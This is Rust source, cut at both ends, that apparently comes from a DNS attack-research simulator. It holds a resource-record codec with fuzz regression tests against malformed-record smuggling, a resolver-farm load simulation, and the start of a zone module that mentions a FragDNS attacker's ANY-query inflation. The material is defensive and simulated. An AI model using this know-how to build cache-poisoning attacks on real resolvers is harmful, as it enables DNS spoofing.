    pub fn covered_type(&self) -> RecordType {
        match self {
            RData::Rrsig { type_covered, .. } => *type_covered,
            other => other.record_type(),
        }
    }

    /// The IPv4 address carried by this record, when it has one.
    pub fn as_ipv4(&self) -> Option<Ipv4Addr> {
        match self {
            RData::A(a) => Some(*a),
            RData::IpsecKey { gateway, .. } => Some(*gateway),
            _ => None,
        }
    }
}

/// Encodes an NSEC/NSEC3 type bitmap (RFC 4034 §4.1.2): window blocks of up
/// to 32 octets, one bit per type, high bit of the first octet = type 0.
fn encode_type_bitmap(types: &[RecordType], buf: &mut Vec<u8>) {
    let mut numbers: Vec<u16> = types.iter().map(|t| t.number()).collect();
    numbers.sort_unstable();
    numbers.dedup();
    let mut i = 0;
    while i < numbers.len() {
        let window = (numbers[i] >> 8) as u8;
        let mut octets = [0u8; 32];
        let mut max_octet = 0usize;
        while i < numbers.len() && (numbers[i] >> 8) as u8 == window {
            let low = (numbers[i] & 0xff) as usize;
            octets[low / 8] |= 0x80 >> (low % 8);
            max_octet = max_octet.max(low / 8);
            i += 1;
        }
        buf.push(window);
        buf.push((max_octet + 1) as u8);
        buf.extend_from_slice(&octets[..=max_octet]);
    }
}

/// Decodes an NSEC/NSEC3 type bitmap. Lenient about window ordering and
/// non-minimal octet counts (the result is re-encoded canonically), strict
/// about structure: each block must declare 1..=32 octets and contain them.
fn decode_type_bitmap(bytes: &[u8]) -> Result<Vec<RecordType>, NameError> {
    let mut numbers = Vec::new();
    let mut pos = 0usize;
    while pos < bytes.len() {
        let window = u16::from(bytes[pos]);
        let count = *bytes.get(pos + 1).ok_or(NameError::Truncated)? as usize;
        if count == 0 || count > 32 {
            return Err(NameError::Truncated);
        }
        let octets = bytes.get(pos + 2..pos + 2 + count).ok_or(NameError::Truncated)?;
        for (i, octet) in octets.iter().enumerate() {
            for bit in 0..8u16 {
                if octet & (0x80 >> bit) != 0 {
                    numbers.push((window << 8) | (i as u16 * 8) | bit);
                }
            }
        }
        pos += 2 + count;
    }
    numbers.sort_unstable();
    numbers.dedup();
    Ok(numbers.into_iter().map(RecordType::from_number).collect())
}

/// A resource record: owner name, class/TTL and typed data.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ResourceRecord {
    /// Owner name.
    pub name: DomainName,
    /// Time to live in seconds.
    pub ttl: u32,
    /// Typed record data.
    pub rdata: RData,
}

impl ResourceRecord {
    /// Creates a record.
    pub fn new(name: DomainName, ttl: u32, rdata: RData) -> Self {
        ResourceRecord { name, ttl, rdata }
    }

    /// The record type.
    pub fn rtype(&self) -> RecordType {
        self.rdata.record_type()
    }

    /// Encodes the record (name, type, class, TTL, RDLENGTH, RDATA).
    pub fn encode(&self, buf: &mut Vec<u8>, compression: Option<&mut HashMap<String, u16>>) {
        self.name.encode(buf, compression);
        buf.extend_from_slice(&self.rtype().number().to_be_bytes());
        // OPT abuses the class field for the UDP payload size (RFC 6891).
        let class: u16 = match &self.rdata {
            RData::Opt { udp_payload_size } => *udp_payload_size,
            _ => 1, // IN
        };
        buf.extend_from_slice(&class.to_be_bytes());
        buf.extend_from_slice(&self.ttl.to_be_bytes());
        let mut rdata = Vec::new();
        match &self.rdata {
            // OPT RDATA is empty on the wire in our model.
            RData::Opt { .. } => {}
            other => other.encode(&mut rdata),
        }
        buf.extend_from_slice(&(rdata.len() as u16).to_be_bytes());
        buf.extend_from_slice(&rdata);
    }

    /// Decodes a record starting at `offset`; returns it and the next offset.
    pub fn decode(msg: &[u8], offset: usize) -> Result<(ResourceRecord, usize), NameError> {
        let (name, pos) = DomainName::decode(msg, offset)?;
        let fixed = msg.get(pos..pos + 10).ok_or(NameError::Truncated)?;
        let rtype = RecordType::from_number(u16::from_be_bytes([fixed[0], fixed[1]]));
        let class = u16::from_be_bytes([fixed[2], fixed[3]]);
        let ttl = u32::from_be_bytes([fixed[4], fixed[5], fixed[6], fixed[7]]);
        let rdlen = u16::from_be_bytes([fixed[8], fixed[9]]) as usize;
        let rdata_start = pos + 10;
        if msg.len() < rdata_start + rdlen {
            return Err(NameError::Truncated);
        }
        let rdata = if rtype == RecordType::OPT {
            RData::Opt { udp_payload_size: class }
        } else {
            RData::decode(rtype, msg, rdata_start, rdlen)?
        };
        Ok((ResourceRecord { name, ttl, rdata }, rdata_start + rdlen))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn n(s: &str) -> DomainName {
        s.parse().unwrap()
    }

    fn roundtrip(rr: ResourceRecord) {
        let mut buf = Vec::new();
        rr.encode(&mut buf, None);
        let (decoded, end) = ResourceRecord::decode(&buf, 0).unwrap();
        assert_eq!(decoded, rr);
        assert_eq!(end, buf.len());
    }

    #[test]
    fn a_record_roundtrip() {
        roundtrip(ResourceRecord::new(n("vict.im"), 300, RData::A("6.6.6.6".parse().unwrap())));
    }

    #[test]
    fn ns_cname_roundtrip() {
        roundtrip(ResourceRecord::new(n("vict.im"), 300, RData::Ns(n("ns1.vict.im"))));
        roundtrip(ResourceRecord::new(n("www.vict.im"), 60, RData::Cname(n("cdn.provider.example"))));
    }

    #[test]
    fn soa_roundtrip() {
        roundtrip(ResourceRecord::new(
            n("vict.im"),
            3600,
            RData::Soa {
                mname: n("ns1.vict.im"),
                rname: n("hostmaster.vict.im"),
                serial: 2021082301,
                refresh: 7200,
                retry: 900,
                expire: 1209600,
                minimum: 300,
            },
        ));
    }

    #[test]
    fn mx_txt_roundtrip() {
        roundtrip(ResourceRecord::new(n("vict.im"), 300, RData::Mx { preference: 10, exchange: n("mail.vict.im") }));
        roundtrip(ResourceRecord::new(n("vict.im"), 300, RData::Txt("v=spf1 ip4:30.0.0.0/24 -all".into())));
    }

    #[test]
    fn long_txt_roundtrip() {
        // TXT longer than one character-string (e.g. a DKIM key).
        let long = "k=rsa; p=".to_string() + &"A".repeat(600);
        roundtrip(ResourceRecord::new(n("sel._domainkey.vict.im"), 300, RData::Txt(long)));
    }

    #[test]
    fn srv_naptr_roundtrip() {
        roundtrip(ResourceRecord::new(
            n("_xmpp-server._tcp.vict.im"),
            300,
            RData::Srv { priority: 5, weight: 0, port: 5269, target: n("xmpp.vict.im") },
        ));
        roundtrip(ResourceRecord::new(
            n("vict.im"),
            300,
            RData::Naptr {
                order: 100,
                preference: 10,
                flags: "s".into(),
                service: "aaa+auth:radius.tls.tcp".into(),
                regexp: String::new(),
                replacement: n("_radiustls._tcp.vict.im"),
            },
        ));
    }

    #[test]
    fn ipseckey_dnssec_roundtrip() {
        roundtrip(ResourceRecord::new(
            n("vpn.vict.im"),
            300,
            RData::IpsecKey { precedence: 10, gateway: "30.0.0.99".parse().unwrap(), public_key: vec![1, 2, 3, 4] },
        ));
        roundtrip(ResourceRecord::new(
            n("vict.im"),
            300,
            RData::Dnskey { flags: 257, algorithm: 253, public_key: vec![9, 8, 7, 6, 5, 4, 3, 2] },
        ));
        roundtrip(ResourceRecord::new(
            n("vict.im"),
            300,
            RData::Ds { key_tag: 12345, algorithm: 253, digest_type: 1, digest: vec![0xde, 0xad, 0xbe, 0xef] },
        ));
        roundtrip(ResourceRecord::new(
            n("vict.im"),
            300,
            RData::Rrsig {
                type_covered: RecordType::A,
                algorithm: 253,
                labels: 2,
                original_ttl: 300,
                expiration: 86_400,
                inception: 0,
                key_tag: 12345,
                signer: n("vict.im"),
                signature: vec![1; 16],
            },
        ));
    }

    #[test]
    fn nsec_roundtrip_and_bitmap_windows() {
        roundtrip(ResourceRecord::new(
            n("vict.im"),
            300,
            RData::Nsec {
                next: n("www.vict.im"),
                // ANY (255) forces a second bitmap window block.
                types: vec![RecordType::A, RecordType::SOA, RecordType::RRSIG, RecordType::NSEC, RecordType::ANY],
            },
        ));
        roundtrip(ResourceRecord::new(
            n("deadbeef.vict.im"),
            300,
            RData::Nsec3 {
                hash_algorithm: 1,
                flags: 1,
                iterations: 2,
                salt: vec![0xab, 0xcd],
                next_hashed: vec![7; 16],
                types: vec![RecordType::A, RecordType::TXT],
            },
        ));
        // An empty bitmap (opt-out span with no types) round-trips too.
        roundtrip(ResourceRecord::new(
            n("deadbeef.vict.im"),
            300,
            RData::Nsec3 {
                hash_algorithm: 1,
                flags: 1,
                iterations: 0,
                salt: Vec::new(),
                next_hashed: vec![9; 16],
                types: Vec::new(),
            },
        ));
    }

    #[test]
    fn malformed_type_bitmap_rejected() {
        // NSEC with a bitmap block claiming 0 octets: structurally invalid.
        let mut buf = Vec::new();
        n("x").encode(&mut buf, None);
        buf.extend_from_slice(&RecordType::NSEC.number().to_be_bytes());
        buf.extend_from_slice(&1u16.to_be_bytes());
        buf.extend_from_slice(&300u32.to_be_bytes());
        let mut rdata = Vec::new();
        n("y").encode(&mut rdata, None);
        rdata.extend_from_slice(&[0x00, 0x00]); // window 0, count 0
        buf.extend_from_slice(&(rdata.len() as u16).to_be_bytes());
        buf.extend_from_slice(&rdata);
        assert!(ResourceRecord::decode(&buf, 0).is_err());
    }

    #[test]
    fn nsec3_length_octets_cannot_escape_rdlength() {
        // Regression locks (fuzz: dns_rr_dnssec/nsec3_salt_escape.bin and
        // dns_rr_dnssec/nsec3_hash_escape.bin): the salt and next-hash
        // length octets are attacker bytes; a claim running past RDLENGTH
        // must be a typed error, never a read into the neighbouring record.
        let salt_escape = [1u8, 0, 0, 0, 200, 1, 2, 3, 4]; // salt claims 200, 4 present
        assert_eq!(RData::decode(RecordType::NSEC3, &salt_escape, 0, salt_escape.len()), Err(NameError::Truncated));
        let hash_escape = [1u8, 1, 0, 0, 2, 0xab, 0xcd, 30, 1, 2, 3, 4]; // hash claims 30, 4 present
        assert_eq!(RData::decode(RecordType::NSEC3, &hash_escape, 0, hash_escape.len()), Err(NameError::Truncated));
    }

    #[test]
    fn nsec_bitmap_disorder_is_canonicalised() {
        // Regression lock (fuzz: dns_rr_dnssec/bitmap_window_disorder.bin):
        // the decoder tolerates out-of-order windows and non-minimal octet
        // counts, but must canonicalise on re-encode so the cache, the
        // signer and the wire all agree on one form per value — the NSEC
        // bitmap is signed data, and a second accepted spelling of the same
        // RRset would split it from its RRSIG.
        let mut rdata = Vec::new();
        n("y").encode(&mut rdata, None);
        rdata.extend_from_slice(&[0x01, 0x01, 0x40]); // window 1 first: type 257
        rdata.extend_from_slice(&[0x00, 0x04, 0x40, 0x00, 0x00, 0x00]); // window 0, padded: type A
        let decoded = RData::decode(RecordType::NSEC, &rdata, 0, rdata.len()).unwrap();
        assert_eq!(decoded, RData::Nsec { next: n("y"), types: vec![RecordType::A, RecordType::Unknown(257)] });
        let mut reencoded = Vec::new();
        decoded.encode(&mut reencoded);
        assert!(reencoded.len() < rdata.len(), "re-encoding drops the padding octets");
        assert_eq!(RData::decode(RecordType::NSEC, &reencoded, 0, reencoded.len()).unwrap(), decoded);
    }

    #[test]
    fn rrsig_signer_name_cannot_escape_rdlength() {
        // Regression lock (fuzz: dns_rr_dnssec/rrsig_truncated_signer.bin):
        // the signer name starts 18 bytes into the RRSIG rdata; when its
        // inline labels run past the RDLENGTH window the decode must fail
        // even though the buffer holds more bytes just past the window.
        let mut buf = Vec::new();
        n("x").encode(&mut buf, None);
        buf.extend_from_slice(&RecordType::RRSIG.number().to_be_bytes());
        buf.extend_from_slice(&1u16.to_be_bytes());
        buf.extend_from_slice(&300u32.to_be_bytes());
        buf.extend_from_slice(&20u16.to_be_bytes()); // 18 fixed bytes + 2 of the name
        buf.extend_from_slice(&[0, 1, 253, 1]); // type covered A, alg, labels
        buf.extend_from_slice(&300u32.to_be_bytes()); // original ttl
        buf.extend_from_slice(&86_400u32.to_be_bytes()); // expiration
        buf.extend_from_slice(&0u32.to_be_bytes()); // inception
        buf.extend_from_slice(&0x1234u16.to_be_bytes()); // key tag
        buf.extend_from_slice(&[3, b'a']); // label claims 3 bytes, window ends
        buf.extend_from_slice(&[b'b', b'c', 0]); // the rest lies outside RDLENGTH
        assert_eq!(ResourceRecord::decode(&buf, 0), Err(NameError::Truncated));
    }

    #[test]
    fn aaaa_and_unknown_roundtrip() {
        roundtrip(ResourceRecord::new(
            n("vict.im"),
            300,
            RData::Aaaa([0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1]),
        ));
    }

    #[test]
    fn opt_record_carries_payload_size_in_class() {
        let rr = ResourceRecord::new(DomainName::root(), 0, RData::Opt { udp_payload_size: 4096 });
        let mut buf = Vec::new();
        rr.encode(&mut buf, None);
        let (decoded, _) = ResourceRecord::decode(&buf, 0).unwrap();
        assert_eq!(decoded.rdata, RData::Opt { udp_payload_size: 4096 });
    }

    #[test]
    fn record_type_numbers_roundtrip() {
        for t in [
            RecordType::A,
            RecordType::NS,
            RecordType::CNAME,
            RecordType::SOA,
            RecordType::MX,
            RecordType::TXT,
            RecordType::AAAA,
            RecordType::SRV,
            RecordType::NAPTR,
            RecordType::IPSECKEY,
            RecordType::OPT,
            RecordType::DS,
            RecordType::DNSKEY,
            RecordType::RRSIG,
            RecordType::NSEC,
            RecordType::NSEC3,
            RecordType::ANY,
        ] {
            assert_eq!(RecordType::from_number(t.number()), t);
        }
        assert_eq!(RecordType::from_number(9999), RecordType::Unknown(9999));
    }

    #[test]
    fn as_ipv4_extracts_addresses() {
        assert_eq!(RData::A("1.2.3.4".parse().unwrap()).as_ipv4(), Some("1.2.3.4".parse().unwrap()));
        assert_eq!(RData::Txt("x".into()).as_ipv4(), None);
    }

    #[test]
    fn rdata_cannot_escape_its_rdlength() {
        // Regression (fuzz: dns_rr/rdlen_escape.bin): an NS record claiming
        // RDLENGTH=1 whose name bytes continue past the window used to
        // decode "successfully" by reading its neighbours' bytes, then
        // resync at rdata_start+1 — a parser-desync smuggling primitive.
        let mut buf = Vec::new();
        n("x").encode(&mut buf, None); // owner
        buf.extend_from_slice(&RecordType::NS.number().to_be_bytes());
        buf.extend_from_slice(&1u16.to_be_bytes()); // class IN
        buf.extend_from_slice(&300u32.to_be_bytes());
        buf.extend_from_slice(&1u16.to_be_bytes()); // RDLENGTH = 1 (lie)
        n("abc").encode(&mut buf, None); // 5 bytes of actual name
        assert_eq!(ResourceRecord::decode(&buf, 0), Err(NameError::Truncated));
    }

    #[test]
    fn rdata_slack_after_content_rejected() {
        // Regression (fuzz: dns_rr/rdlen_slack.bin): RDLENGTH larger than
        // the content it frames left unaccounted bytes inside the record.
        let mut buf = Vec::new();
        n("x").encode(&mut buf, None);
        buf.extend_from_slice(&RecordType::NS.number().to_be_bytes());
        buf.extend_from_slice(&1u16.to_be_bytes());
        buf.extend_from_slice(&300u32.to_be_bytes());
        let mut rdata = Vec::new();
        n("abc").encode(&mut rdata, None);
        rdata.push(0xAA); // one stray byte inside the claimed RDLENGTH
        buf.extend_from_slice(&(rdata.len() as u16).to_be_bytes());
        buf.extend_from_slice(&rdata);
        assert_eq!(ResourceRecord::decode(&buf, 0), Err(NameError::RdataLengthMismatch));
    }

    #[test]
    fn compressed_name_inside_rdata_still_decodes() {
        // A backward compression pointer in RDATA is legal RFC 1035: the
        // inline bytes (the 2-byte pointer) fill the RDLENGTH exactly while
        // the labels live earlier in the message.
        let mut buf = Vec::new();
        n("ns1.vict.im").encode(&mut buf, None); // owner at offset 0
        buf.extend_from_slice(&RecordType::NS.number().to_be_bytes());
        buf.extend_from_slice(&1u16.to_be_bytes());
        buf.extend_from_slice(&300u32.to_be_bytes());
        buf.extend_from_slice(&2u16.to_be_bytes()); // RDLENGTH = pointer
        buf.extend_from_slice(&0xC000u16.to_be_bytes()); // -> offset 0
        let (rr, end) = ResourceRecord::decode(&buf, 0).unwrap();
        assert_eq!(rr.rdata, RData::Ns(n("ns1.vict.im")));
        assert_eq!(end, buf.len());
    }

    #[test]
    fn truncated_rdata_rejected() {
        let rr = ResourceRecord::new(n("vict.im"), 300, RData::A("1.2.3.4".parse().unwrap()));
        let mut buf = Vec::new();
        rr.encode(&mut buf, None);
        buf.truncate(buf.len() - 2);
        assert!(ResourceRecord::decode(&buf, 0).is_err());
    }
}
