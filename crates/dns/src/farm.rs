//! A resolver farm under background load — the engine-scale workload.
//!
//! The paper's attacks play out against resolvers serving *real* traffic, but
//! every attack scenario elsewhere in the workspace is a handful-of-hosts
//! environment. This module builds the first production-shaped simulation:
//! `N` anycast resolver frontends sharing one [`SharedCache`], an
//! authoritative nameserver for a synthetic query zone, and a block of
//! arena-hosted stub clients (see [`netsim::engine::StubHandler`]) issuing a
//! Poisson-ish seeded background query stream. One simulation comfortably
//! holds 10⁵–10⁶ clients; `xlayer-core::farm` partitions bigger populations
//! into per-shard simulations that fan out over the campaign worker pool.
//!
//! Clients draw exponential inter-query think times from the simulation RNG,
//! so the aggregate stream is Poisson-ish, fully seeded, and byte-identical
//! given the same seed.

use crate::cache::SharedCache;
use crate::message::{Message, Rcode};
use crate::name::DomainName;
use crate::nameserver::{Nameserver, NameserverConfig};
use crate::rdata::RecordType;
use crate::resolver::{Resolver, ResolverConfig};
use crate::well_known_ports;
use crate::zone::Zone;
use netsim::engine::{NodeId, StubCtx, StubHandler, StubId, StubTimer};
use netsim::prelude::{Ipv4Addr, Simulator, UdpDatagram};
use netsim::time::{Duration, SimTime};
use rand::Rng;
use serde::{Deserialize, Serialize};

/// The authoritative nameserver for the synthetic load zone.
pub const FARM_NAMESERVER: Ipv4Addr = Ipv4Addr::new(123, 0, 1, 53);
/// First anycast frontend address; frontend `i` is `FARM_RESOLVER_BASE + i`.
pub const FARM_RESOLVER_BASE: Ipv4Addr = Ipv4Addr::new(30, 0, 1, 1);
/// Base address of the client block (CGNAT space, plenty of room for 10⁶+).
pub const FARM_CLIENT_BASE: Ipv4Addr = Ipv4Addr::new(100, 64, 0, 0);

/// Timer kind used by [`FarmClientHandler`] for the next background query.
pub const TIMER_NEXT_QUERY: u8 = 1;

/// Configuration of one farm simulation (one shard of the big population).
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct FarmConfig {
    /// Simulator seed.
    pub seed: u64,
    /// Number of anycast resolver frontends sharing the cache.
    pub resolvers: u32,
    /// Number of stub clients.
    pub clients: u32,
    /// Size of the query-name pool (`q0.load.test` …).
    pub names: u32,
    /// Mean think time between two queries of one client.
    pub mean_think: Duration,
    /// Length of the background stream (clients stop scheduling after this).
    pub duration: Duration,
}

impl Default for FarmConfig {
    fn default() -> Self {
        FarmConfig {
            seed: 2021,
            resolvers: 4,
            clients: 10_000,
            names: 512,
            mean_think: Duration::from_secs(2),
            duration: Duration::from_secs(10),
        }
    }
}

/// Handles of a built farm simulation.
pub struct Farm {
    /// The resolver frontends, in address order.
    pub resolvers: Vec<NodeId>,
    /// Their addresses (`FARM_RESOLVER_BASE + i`).
    pub resolver_addrs: Vec<Ipv4Addr>,
    /// The authoritative nameserver of the load zone.
    pub nameserver: NodeId,
    /// First stub client of the block.
    pub first_client: StubId,
    /// The cache shared by every frontend.
    pub cache: SharedCache,
    /// The configuration the farm was built from.
    pub config: FarmConfig,
}

/// Deterministic, mergeable counters describing one farm run. Everything in
/// here is a pure function of the seed (wall-clock timing deliberately lives
/// outside, in the bench harness), so equality across worker counts is the
/// determinism contract.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct FarmStats {
    /// Stub clients simulated.
    pub clients: u64,
    /// Background queries sent by the clients.
    pub queries_sent: u64,
    /// Responses delivered back to the clients.
    pub responses: u64,
    /// Responses carrying a non-`NoError` rcode.
    pub error_responses: u64,
    /// Client queries answered straight from the shared cache.
    pub cache_answers: u64,
    /// Queries the frontends sent upstream.
    pub upstream_queries: u64,
    /// SERVFAILs the frontends returned.
    pub servfails: u64,
    /// Entries in the shared cache when the run ended.
    pub cache_entries: u64,
    /// Packets delivered to any host (the bench's work metric).
    pub packets_delivered: u64,
    /// Bytes delivered to any host.
    pub bytes_delivered: u64,
    /// Simulated end time in nanoseconds (max across shards on merge).
    pub sim_end_ns: u64,
}

impl FarmStats {
    /// Folds another shard's stats into this one (commutative).
    pub fn merge(&mut self, other: &FarmStats) {
        self.clients += other.clients;
        self.queries_sent += other.queries_sent;
        self.responses += other.responses;
        self.error_responses += other.error_responses;
        self.cache_answers += other.cache_answers;
        self.upstream_queries += other.upstream_queries;
        self.servfails += other.servfails;
        self.cache_entries += other.cache_entries;
        self.packets_delivered += other.packets_delivered;
        self.bytes_delivered += other.bytes_delivered;
        self.sim_end_ns = self.sim_end_ns.max(other.sim_end_ns);
    }

    /// Exports the farm counters into a telemetry snapshot under
    /// `dns.farm.*`. Counters add on merge; the simulated end time exports as
    /// a max-merged gauge, matching [`FarmStats::merge`].
    pub fn export_metrics(&self, m: &mut telemetry::MetricsSnapshot) {
        m.incr("dns.farm.clients", self.clients);
        m.incr("dns.farm.queries_sent", self.queries_sent);
        m.incr("dns.farm.responses", self.responses);
        m.incr("dns.farm.error_responses", self.error_responses);
        m.incr("dns.farm.cache_answers", self.cache_answers);
        m.incr("dns.farm.upstream_queries", self.upstream_queries);
        m.incr("dns.farm.servfails", self.servfails);
        m.incr("dns.farm.cache_entries", self.cache_entries);
        m.incr("dns.farm.packets_delivered", self.packets_delivered);
        m.incr("dns.farm.bytes_delivered", self.bytes_delivered);
        m.gauge_max("dns.farm.sim_end_ns", self.sim_end_ns);
    }
}

/// The shared behaviour of every background client: think (exponential),
/// query a random name at the nearest anycast frontend, count the answer.
pub struct FarmClientHandler {
    /// Anycast frontends; client `i` sticks to frontend `i % len` (the
    /// stable-routing approximation of anycast catchments).
    pub targets: Vec<Ipv4Addr>,
    /// The query-name pool, built once and shared by all clients.
    pub names: Vec<DomainName>,
    /// Mean think time between queries.
    pub mean_think: Duration,
    /// No queries are scheduled at or after this time.
    pub end: SimTime,
}

impl FarmClientHandler {
    /// Builds the handler for a pool of `names` synthetic zone names.
    pub fn new(targets: Vec<Ipv4Addr>, names: u32, mean_think: Duration, end: SimTime) -> Self {
        let names = (0..names).map(|i| format!("q{i}.load.test").parse().expect("synthetic name is valid")).collect();
        FarmClientHandler { targets, names, mean_think, end }
    }

    fn schedule_next(&self, ctx: &mut StubCtx<'_>) {
        let think = exp_sample(ctx.rng(), self.mean_think);
        if ctx.now() + think < self.end {
            ctx.set_timer(think, StubTimer { kind: TIMER_NEXT_QUERY, data: 0 });
        }
    }
}

impl StubHandler for FarmClientHandler {
    fn on_start(&mut self, ctx: &mut StubCtx<'_>) {
        self.schedule_next(ctx);
    }

    fn on_timer(&mut self, ctx: &mut StubCtx<'_>, timer: StubTimer) {
        if timer.kind != TIMER_NEXT_QUERY {
            return;
        }
        let name = self.names[ctx.rng().gen_range(0..self.names.len())].clone();
        let txid: u16 = ctx.rng().gen();
        let target = self.targets[ctx.id().0 as usize % self.targets.len()];
        let query = Message::query(txid, name, RecordType::A);
        let pkt =
            UdpDatagram::new(ctx.addr(), target, well_known_ports::STUB_CLIENT, well_known_ports::DNS, query.encode())
                .into_packet(txid, 64);
        ctx.send(pkt);
        self.schedule_next(ctx);
    }

    fn on_packet(&mut self, ctx: &mut StubCtx<'_>, pkt: &netsim::prelude::Ipv4Packet) {
        // `data` counts parsed DNS responses; `failed` counts error rcodes.
        if let Ok(dgram) = UdpDatagram::from_packet(pkt) {
            if let Ok(msg) = Message::decode(&dgram.payload) {
                ctx.state_mut().data += 1;
                if msg.header.rcode != Rcode::NoError {
                    ctx.state_mut().failed += 1;
                }
            }
        }
    }
}

/// Draws an exponentially distributed duration with the given mean, capped at
/// ten means so one unlucky draw cannot idle a client past the whole run.
pub fn exp_sample(rng: &mut impl Rng, mean: Duration) -> Duration {
    let u: f64 = rng.gen();
    let secs = -(1.0 - u).ln() * mean.as_secs_f64();
    let cap = mean.as_secs_f64() * 10.0;
    Duration::from_secs_f64(secs.min(cap))
}

/// The synthetic zone the farm queries: `names` A records under `load.test`.
pub fn load_zone(names: u32) -> Zone {
    let mut zone = Zone::new("load.test".parse().expect("valid origin"));
    zone.add_ns("ns1.load.test", FARM_NAMESERVER);
    for i in 0..names {
        let addr = Ipv4Addr::from(u32::from(Ipv4Addr::new(10, 99, 0, 0)) + i);
        zone.add_a(&format!("q{i}.load.test"), addr);
    }
    zone
}

/// Builds one farm simulation. Tracing is disabled — at 10⁵+ hosts the trace
/// would dominate memory and time; targeted experiments can re-enable it.
pub fn build_farm(config: FarmConfig) -> (Simulator, Farm) {
    let mut sim = Simulator::new(config.seed);
    sim.trace_mut().enabled = false;

    let nameserver = sim.add_node(
        "ns",
        vec![FARM_NAMESERVER],
        Nameserver::new(NameserverConfig::new(FARM_NAMESERVER), vec![load_zone(config.names)]),
    );

    let cache = SharedCache::new();
    let mut resolvers = Vec::new();
    let mut resolver_addrs = Vec::new();
    for i in 0..config.resolvers {
        let addr = Ipv4Addr::from(u32::from(FARM_RESOLVER_BASE) + i);
        let rc = ResolverConfig::new(addr).with_delegation("load.test", vec![FARM_NAMESERVER], false);
        let id = sim.add_node(&format!("resolver{i}"), vec![addr], Resolver::with_shared_cache(rc, cache.clone()));
        sim.connect(id, nameserver, netsim::prelude::Link::with_latency(Duration::from_millis(10)));
        resolvers.push(id);
        resolver_addrs.push(addr);
    }

    let first_client = sim.add_stub_block("client", FARM_CLIENT_BASE, config.clients);
    let end = SimTime::ZERO + config.duration;
    sim.set_stub_handler(FarmClientHandler::new(resolver_addrs.clone(), config.names, config.mean_think, end));

    let farm = Farm { resolvers, resolver_addrs, nameserver, first_client, cache, config };
    (sim, farm)
}

impl Farm {
    /// Collects the deterministic counters after a run.
    pub fn stats(&self, sim: &Simulator) -> FarmStats {
        let mut s = FarmStats { clients: u64::from(self.config.clients), ..FarmStats::default() };
        let block = sim.stub_block_stats(self.first_client);
        s.queries_sent = block.udp_sent;
        s.packets_delivered += block.packets_received;
        s.bytes_delivered += block.bytes_received;
        for st in sim.stub_states() {
            s.responses += u64::from(st.received);
            s.error_responses += u64::from(st.failed);
        }
        for &r in &self.resolvers {
            let rs = &sim.node_ref::<Resolver>(r).expect("resolver node").stats;
            s.cache_answers += rs.cache_answers;
            s.upstream_queries += rs.upstream_queries;
            s.servfails += rs.servfails;
            let ts = sim.stats(r);
            s.packets_delivered += ts.packets_received;
            s.bytes_delivered += ts.bytes_received;
        }
        let ns = sim.stats(self.nameserver);
        s.packets_delivered += ns.packets_received;
        s.bytes_delivered += ns.bytes_received;
        s.cache_entries = self.cache.borrow().len() as u64;
        s.sim_end_ns = sim.now().duration_since(SimTime::ZERO).as_nanos();
        s
    }
}

/// Builds, runs to quiescence, and summarises one farm shard.
pub fn run_farm_shard(config: FarmConfig) -> FarmStats {
    let (mut sim, farm) = build_farm(config);
    sim.run();
    farm.stats(&sim)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn small() -> FarmConfig {
        FarmConfig {
            seed: 11,
            resolvers: 3,
            clients: 200,
            names: 32,
            mean_think: Duration::from_millis(500),
            duration: Duration::from_secs(3),
        }
    }

    #[test]
    fn farm_answers_background_load() {
        let stats = run_farm_shard(small());
        assert!(stats.queries_sent > 500, "200 clients x ~6 queries: got {}", stats.queries_sent);
        assert_eq!(stats.responses, stats.queries_sent, "every query is answered");
        assert_eq!(stats.error_responses, 0);
        assert_eq!(stats.servfails, 0);
        // The shared cache turns most queries into cache hits: upstream
        // traffic is bounded by the name pool, not the query count.
        assert!(stats.upstream_queries < stats.queries_sent / 2);
        assert!(stats.cache_entries > 0);
    }

    #[test]
    fn shared_cache_is_shared_across_frontends() {
        let (mut sim, farm) = build_farm(small());
        sim.run();
        // Every frontend has answered from cache even though each name went
        // upstream at most a handful of times (TTL refreshes): the hits were
        // primed by sibling frontends.
        let stats = farm.stats(&sim);
        assert!(stats.cache_answers > 0);
        assert!(
            stats.upstream_queries < u64::from(farm.config.names) * 3,
            "upstream bounded by pool size, not frontends x pool: {} upstream",
            stats.upstream_queries
        );
    }

    #[test]
    fn same_seed_same_stats() {
        assert_eq!(run_farm_shard(small()), run_farm_shard(small()));
        let other = FarmConfig { seed: 12, ..small() };
        assert_ne!(run_farm_shard(other), run_farm_shard(small()));
    }

    #[test]
    fn exp_sample_is_positive_and_capped() {
        let mut rng = <rand_chacha::ChaCha20Rng as rand::SeedableRng>::seed_from_u64(1);
        let mean = Duration::from_millis(100);
        for _ in 0..1000 {
            let d = exp_sample(&mut rng, mean);
            assert!(d <= Duration::from_secs(1), "capped at 10 means");
        }
    }
}
