//! Authoritative zone data.
//!
//! A [`Zone`] holds the records an authoritative nameserver serves for one
//! origin. The builder covers all the record types used by the applications
//! in Table 1 (mail, XMPP, Radius, SPF/DKIM policies, IPSECKEY, ...) plus the
//! DNSSEC-signing flag used by the Table 4 "DNSSEC" column, and supports the
//! `ANY` query expansion the FragDNS attacker uses to inflate responses.

use crate::name::DomainName;
use crate::rdata::{RData, RecordType, ResourceRecord};
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::net::Ipv4Addr;

/// Result of a zone lookup.
#[derive(Debug, Clone, PartialEq)]
pub enum LookupResult {
    /// Records matching the query.
    Records(Vec<ResourceRecord>),
    /// The name exists but has no records of the requested type.
    NoData,
    /// The name does not exist in the zone.
    NxDomain,
    /// The query name is outside this zone.
    OutOfZone,
}

/// An authoritative zone.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Zone {
    /// The zone origin (apex).
    pub origin: DomainName,
    /// Whether the zone is DNSSEC-signed. When true, every response the
    /// nameserver produces carries (simulated) RRSIGs and a validating
    /// resolver can detect spoofed data.
    pub signed: bool,
    /// Default TTL for records added without an explicit TTL.
    pub default_ttl: u32,
    records: BTreeMap<DomainName, Vec<ResourceRecord>>,
}

impl Zone {
    /// Creates an empty zone with a standard SOA record.
    pub fn new(origin: DomainName) -> Self {
        let mut zone = Zone { origin: origin.clone(), signed: false, default_ttl: 300, records: BTreeMap::new() };
        let soa = RData::Soa {
